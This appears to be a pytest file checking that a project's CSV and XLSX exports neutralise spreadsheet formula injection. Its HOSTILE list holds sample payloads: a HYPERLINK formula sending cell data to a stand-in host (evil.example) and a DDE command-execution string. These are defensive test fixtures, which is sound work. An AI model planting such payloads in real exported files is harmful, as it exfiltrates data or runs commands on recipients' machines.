"""Exports never hand a spreadsheet program a formula: CSV cells get the text marker, XLSX cells
are stored as text, and our own CSV read back gives the original values."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from microcred.domain.spreadsheet_cells import (
    append_text_safe,
    csv_cell,
    looks_like_formula,
    unmarked,
)
from microcred.reports.mapping_tables import Table
from microcred.reports.spreadsheets import table_csv, tables_xlsx
from microcred.services.bulk.gradebook import read_gradebook
from microcred.services.bulk.template import rows_csv

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_is_marked_and_read_back_unchanged(text: str) -> None:
    assert looks_like_formula(text)
    assert csv_cell(text) == "'" + text
    assert unmarked(csv_cell(text)) == text


@pytest.mark.parametrize("value", ["-5", "+1.5", "-0,5", "Anna", "", "a=b", 7, None])
def test_plain_values_and_signed_numbers_are_left_alone(value: object) -> None:
    assert not looks_like_formula(value)
    assert csv_cell(value) == value


def _table() -> Table:
    return Table(name="programmes", headers=["=title", "ects"], rows=[[HOSTILE[0], 5], [None, -3]])


def test_table_csv_marks_every_formula_like_cell_header_included() -> None:
    rows = list(csv.reader(io.StringIO(table_csv(_table()))))
    assert rows[0] == ["'=title", "ects"]
    assert rows[1] == ["'" + HOSTILE[0], "5"]
    assert rows[2] == ["", "-3"]


def test_tables_xlsx_stores_formula_like_text_as_text() -> None:
    workbook = openpyxl.load_workbook(io.BytesIO(tables_xlsx([_table()])))
    sheet = workbook["programmes"]
    assert (sheet["A1"].value, sheet["A1"].data_type) == ("=title", "s")
    assert (sheet["A2"].value, sheet["A2"].data_type) == (HOSTILE[0], "s")
    assert (sheet["B2"].value, sheet["B2"].data_type) == (5, "n")


def test_without_the_helper_openpyxl_would_write_a_formula() -> None:
    # The premise of the XLSX rule: a plain append stores such text as a formula.
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(["=1+1"])
    append_text_safe(sheet, ["=1+1"])
    assert (sheet["A1"].data_type, sheet["A2"].data_type) == ("f", "s")


def test_failed_rows_csv_is_safe_and_reads_back_as_the_upload() -> None:
    columns = ["name", "email", "=grade"]
    rows = [{"name": HOSTILE[0], "email": "", "=grade": "@A", "problem": "email missing"}]
    text = rows_csv(columns, rows)
    raw = list(csv.reader(io.StringIO(text)))
    assert raw[0] == ["name", "email", "'=grade", "problem"]
    assert raw[1][0] == "'" + HOSTILE[0] and raw[1][2] == "'@A"
    book = read_gradebook(text.encode("utf-8"), "failed.csv")
    assert book.columns == ["name", "email", "=grade", "problem"]
    assert book.rows[0][1]["name"] == HOSTILE[0]
